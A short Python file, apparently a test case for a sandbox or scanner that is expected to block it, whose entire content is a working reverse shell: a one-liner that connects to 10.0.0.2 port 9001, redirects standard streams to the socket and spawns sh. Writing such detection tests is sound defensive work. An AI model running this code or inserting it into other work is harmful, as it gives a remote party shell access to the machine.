# expect: BLOCKED reverse_shell
import subprocess
import sys
code = 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.2",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")'
subprocess.Popen([sys.executable, "-c", code])
